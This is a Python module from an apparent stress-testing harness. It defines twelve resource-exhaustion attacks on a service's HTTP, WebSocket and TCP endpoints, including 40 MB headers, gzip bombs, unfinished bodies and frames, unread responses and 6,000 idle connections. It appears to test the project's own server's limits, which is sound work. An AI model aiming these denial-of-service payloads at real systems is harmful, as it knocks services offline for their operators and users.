"""Much that the service would have to hold: what is sent without an end, and what is asked for and never read."""

import asyncio

from siege.attacks.bodies import MOST
from siege.target import Assault, Target
from siege.wire import HANDSHAKE, PING, TEXT, frame, hoard, request, squeezed

_JSON = {"Content-Type": "application/json"}
_OPEN = {"Connection": "keep-alive"}
WAIT = 5.0
"""Seconds for which everything is held."""


def headers_without_end(target: Target) -> Assault:
    """Headers of 40 MB, on one connection."""
    sent = b"GET /livez HTTP/1.1\r\nHost: localhost\r\n" + b"".join(
        b"X-%d: a\r\n" % number for number in range(4_000_000)
    )
    return lambda: hoard(target, 1, sent, WAIT)


def fields_behind_a_body(target: Target) -> Assault:
    """40 MB of fields behind a body in chunks, on one connection."""
    json = b"Content-Type: application/json\r\n"
    head = b"POST /readings HTTP/1.1\r\nHost: localhost\r\n" + json + b"Transfer-Encoding: chunked\r\n\r\n"
    sent = head + b"0\r\n" + b"".join(b"X-%d: a\r\n" % number for number in range(4_000_000))
    return lambda: hoard(target, 1, sent, WAIT)


def waiting_gzip(target: Target) -> Assault:
    """60 bodies of 16 KB, each 16 MB after decompression."""
    sent = request("POST", "/readings", squeezed(b"[" + b" " * MOST + b"]"), _JSON | {"Content-Encoding": "gzip"})
    return lambda: hoard(target, 60, sent, WAIT)


def bodies_without_end(target: Target) -> Assault:
    """40 bodies, of which 15 MB are sent and the rest isn't."""
    sent = request("POST", "/readings", b" " * MOST, _JSON)[:-1_000_000]
    return lambda: hoard(target, 40, sent, WAIT)


def buckets_without_end(target: Target) -> Assault:
    """40 bodies at an address that keeps all of a body, of which 15 MB are sent and the rest isn't."""
    sent = request("POST", "/api/v2/buckets", b" " * MOST, _JSON)[:-1_000_000]
    return lambda: hoard(target, 40, sent, WAIT)


def long_ids(target: Target) -> Assault:
    """Envelopes with ids of 1 MB, whose answers nobody reads."""
    sent = HANDSHAKE.encode() + frame(TEXT, b'{"id": "' + b"x" * 1_000_000 + b'", "readings": []}') * 300
    return lambda: hoard(target, 1, sent, WAIT, reads=False)


def unread_pongs(target: Target) -> Assault:
    """A million pings on each of ten sockets that read no pongs."""
    sent = HANDSHAKE.encode() + frame(PING, b"p" * 125) * 100_000
    return lambda: hoard(target, 10, sent, WAIT, reads=False)


def requests_behind_each_other(target: Target) -> Assault:
    """14,000 requests on each of 20 connections, whose answers nobody reads."""
    sent = request("GET", "/display?per_page=1", fields=_OPEN) * 14_000
    return lambda: hoard(target, 20, sent, WAIT, reads=False)


def frames_in_parts(target: Target) -> Assault:
    """600 sockets, each with a frame of 1 MiB that lacks its last byte."""
    sent = HANDSHAKE.encode() + frame(TEXT, b" " * (2**20 - 100))[:-1]
    return lambda: hoard(target, 600, sent, WAIT)


def texts_in_parts(target: Target) -> Assault:
    """600 connections over TCP, each with a text of 1 MiB that doesn't end."""
    return lambda: hoard(target, 600, b'{"a":"' + b" " * (2**20 - 1000), WAIT, port=target.tcp_port)


def unread_exports(target: Target) -> Assault:
    """100 exports that nobody reads."""
    sent = request("GET", "/readings", fields=_OPEN)
    return lambda: hoard(target, 100, sent, WAIT, reads=False)


def silence(target: Target) -> Assault:
    """6,000 connections that say nothing."""

    async def assault() -> str:
        await asyncio.sleep(0)
        return await hoard(target, 6000, b"", WAIT)

    return assault


ATTACKS = (
    headers_without_end,
    fields_behind_a_body,
    waiting_gzip,
    bodies_without_end,
    buckets_without_end,
    long_ids,
    unread_pongs,
    requests_behind_each_other,
    frames_in_parts,
    texts_in_parts,
    unread_exports,
    silence,
)
